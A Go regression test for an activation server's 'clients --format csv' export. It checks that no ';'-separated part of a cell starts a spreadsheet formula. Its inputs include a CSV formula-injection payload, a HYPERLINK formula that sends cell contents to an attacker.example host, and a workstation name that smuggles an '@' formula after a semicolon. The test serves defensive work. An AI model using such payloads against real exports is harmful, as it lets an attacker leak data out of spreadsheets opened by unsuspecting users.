package main

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/kmsdns/kmsdns/test/harness"
)

// TestReviewCSVListSeparatorHidesFormulas: `clients --format csv` guards
// only the first character of each cell against formulas, but a
// spreadsheet in a locale whose list separator is ';' (Excel in de, fr,
// nl, ...) splits a comma CSV on ';'. The cmid_seen_as list is joined
// with ';', and a workstation name may itself hold ';': either way a
// client-chosen name becomes a cell of its own that starts with '=' or
// '@'. Expected safe behaviour: no ';'-separated part of any cell starts
// a formula (each list element is neutralized like a cell, and ';' in
// client text is escaped or the part after it neutralized).
func TestReviewCSVListSeparatorHidesFormulas(t *testing.T) {
	p := harness.StartResponder(t, t.TempDir(), "--group", "windows-server-2025")
	const cmid = "0f6b8a9e-1d2c-4b3a-8f7e-6d5c4b3a2f11"
	for _, ws := range []string{"WS-01", `=HYPERLINK("http://attacker.example/?"&A1)`, `WS-02;@SUM(1+1)`} {
		activateCLI(t, p.Addr, "Windows Server 2025 Standard", cmid, ws)
	}
	out, stderr, code := runCLI(t, "clients", "--admin", p.Admin, "--format", "csv")
	if code != exitOK {
		t.Fatalf("clients --format csv: exit %d\n%s", code, stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(recs) < 2 {
		t.Fatalf("csv: %v\n%s", err, out)
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			for j, part := range strings.Split(cell, ";") {
				if part != "" && strings.ContainsRune("=+-@\t\r", rune(part[0])) {
					t.Errorf("csv column %s = %q: part %d after ';' (%q) starts a formula", recs[0][i], cell, j, part)
				}
			}
		}
	}
}
